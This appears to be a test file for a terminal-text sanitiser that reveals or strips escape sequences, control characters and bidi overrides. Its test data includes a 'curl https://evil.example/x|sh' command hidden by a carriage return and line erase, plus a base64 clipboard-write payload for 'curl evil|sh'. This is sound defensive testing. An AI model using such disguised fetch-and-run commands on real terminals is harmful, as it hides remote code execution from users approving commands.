import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hasTerminalControls, stripTerminalControls, visibleControls } from './terminal-text.js';

const ESC = '\x1b';
/** Any C0 control but newline and tab, DEL, any C1 control, or a bidi control. */
const FORBIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** Pieces an attacker would put in a title: escape sequences, controls, bidi, surrogates, plain text. */
const hostilePiece = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.constantFrom(
    `${ESC}[2J`,
    `${ESC}[31;1m`,
    `${ESC}[?1049h`,
    `${ESC}]0;pwned${'\x07'}`,
    `${ESC}]8;;https://evil.example${ESC}\\`,
    `${ESC}]52;c;Y3VybCBldmlsfHNo${'\x07'}`,
    `${ESC}P+q544e${ESC}\\`,
    `${ESC}c`,
    `${ESC}(0`,
    '\x9b2J',
    '\x9d0;title\x9c',
    '\r',
    '\b\b\b',
    '\u202e',
    '\u2066',
    '\ud800',
    '\udfff',
    '🎉',
    ESC,
    `${ESC}[`,
    `${ESC}]`,
  ),
);
const hostileText = fc.array(hostilePiece, { maxLength: 12 }).map((parts) => parts.join(''));

describe('visibleControls: the approval prompt shows every control character', () => {
  it('shows the hidden command of a carriage return and a line erase', () => {
    const command = 'curl https://evil.example/x|sh\r\x1b[2Knpm test';
    expect(visibleControls(command)).toBe('curl https://evil.example/x|sh\\r\\x1b[2Knpm test');
  });

  it('writes newline, tab, ESC, other C0, DEL and C1 as escapes', () => {
    expect(visibleControls('a\nb\tc\x1bd\x00e\x07f\x7fg\x9bh\x85i')).toBe(
      'a\\nb\\tc\\x1bd\\x00e\\x07f\\x7fg\\x9bh\\x85i',
    );
  });

  it('writes bidi overrides and isolates as code points, and leaves other text alone', () => {
    expect(visibleControls('ok\u202eexe.txt\u2066x\u2069')).toBe('ok\\u{202e}exe.txt\\u{2066}x\\u{2069}');
    expect(visibleControls('npm ci --no-audit "é" 🎉 \\x1b')).toBe('npm ci --no-audit "é" 🎉 \\x1b');
  });

  it('writes lone surrogates as code points but keeps surrogate pairs', () => {
    expect(visibleControls('a\ud800b\udc00c🎉')).toBe('a\\u{d800}b\\u{dc00}c🎉');
  });

  it('never outputs a control character, and is the identity on text without them (property)', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const shown = visibleControls(text);
        expect(shown).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
        if (!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\ud800-\udfff]/.test(text)) expect(shown).toBe(text);
      }),
      { numRuns: 500 },
    );
  });

  it('shows different commands differently when they differ in a control character (property)', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 10 }),
        fc.integer({ min: 0, max: 0x9f }),
        fc.integer({ min: 0, max: 0x9f }),
        (text, a, b) => {
          fc.pre(a !== b && (a < 0x20 || a >= 0x7f) && (b < 0x20 || b >= 0x7f));
          expect(visibleControls(text + String.fromCharCode(a))).not.toBe(
            visibleControls(text + String.fromCharCode(b)),
          );
        },
      ),
    );
  });
});

describe('stripTerminalControls: text from outside cannot drive the terminal', () => {
  it('removes a screen clear from a label', () => {
    expect(stripTerminalControls(`bug${ESC}[2J`)).toBe('bug');
    expect(stripTerminalControls(`${ESC}[31;1mred${ESC}[0m text`)).toBe('red text');
  });

  it('removes OSC sequences whole, terminated by BEL or ST, and unterminated ones to the end', () => {
    expect(stripTerminalControls(`a${ESC}]0;title\x07b`)).toBe('ab');
    expect(stripTerminalControls(`a${ESC}]8;;https://x${ESC}\\link${ESC}]8;;${ESC}\\b`)).toBe('alinkb');
    expect(stripTerminalControls(`a${ESC}]52;c;ZXZpbA==`)).toBe('a');
    expect(stripTerminalControls('a\x9d0;t\x9cb')).toBe('ab');
  });

  it('removes C1 CSI, DCS, two-byte ESC sequences and a lone trailing ESC', () => {
    expect(stripTerminalControls('a\x9b2Jb')).toBe('ab');
    expect(stripTerminalControls(`a${ESC}P1$r${ESC}\\b`)).toBe('ab');
    expect(stripTerminalControls(`a${ESC}cb${ESC}(0c`)).toBe('abc');
    expect(stripTerminalControls(`ab${ESC}`)).toBe('ab');
    expect(stripTerminalControls(`ab${ESC}[`)).toBe('ab');
  });

  it('removes carriage returns, backspaces, DEL, C1 and bidi controls; keeps newlines and tabs', () => {
    expect(stripTerminalControls('curl x|sh\r\x1b[2Knpm test')).toBe('curl x|shnpm test');
    expect(stripTerminalControls('a\b\x7f\x85b\u202ec\u2069d')).toBe('abcd');
    expect(stripTerminalControls('line 1\n\tline 2')).toBe('line 1\n\tline 2');
  });

  it('turns newlines and tabs into single spaces when the layout is not kept', () => {
    expect(stripTerminalControls('a\n\n\tb\r\nc', { keepLayout: false })).toBe('a b c');
  });

  it('returns text without controls unchanged, emoji and non-Latin text included', () => {
    const text = 'Añadir página 🎉 日本語 "quotes" $(x) `y` ../z';
    expect(stripTerminalControls(text)).toBe(text);
    expect(hasTerminalControls(text)).toBe(false);
    expect(hasTerminalControls(`${text}${ESC}`)).toBe(true);
  });

  it('never outputs ESC, another control but newline and tab, or a bidi control (property)', () => {
    fc.assert(
      fc.property(hostileText, fc.boolean(), (text, keepLayout) => {
        const clean = stripTerminalControls(text, { keepLayout });
        expect(clean).not.toMatch(FORBIDDEN);
        if (!keepLayout) expect(clean).not.toMatch(/[\n\t]/);
        expect(hasTerminalControls(clean)).toBe(false);
      }),
      { numRuns: 1000 },
    );
  });

  it('is idempotent and only ever removes text (property)', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const clean = stripTerminalControls(text);
        expect(stripTerminalControls(clean)).toBe(clean);
        expect(clean.length).toBeLessThanOrEqual(text.length);
      }),
      { numRuns: 500 },
    );
  });

  it('keeps the plain text around a sequence (property)', () => {
    const plain = fc
      .string({ maxLength: 20 })
      .map((s) => s.replace(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g, ''));
    fc.assert(
      fc.property(
        plain,
        fc.constantFrom(`${ESC}[2J`, `${ESC}]0;x\x07`, `${ESC}]0;x${ESC}\\`, '\x9b1;2H', `${ESC}c`, '\r', '\u202e'),
        plain,
        (before, seq, after) => {
          // A plain text starting with a CSI final byte would be eaten by a bare ESC; the chosen sequences are
          // complete.
          expect(stripTerminalControls(before + seq + after)).toBe(before + after);
        },
      ),
    );
  });
});
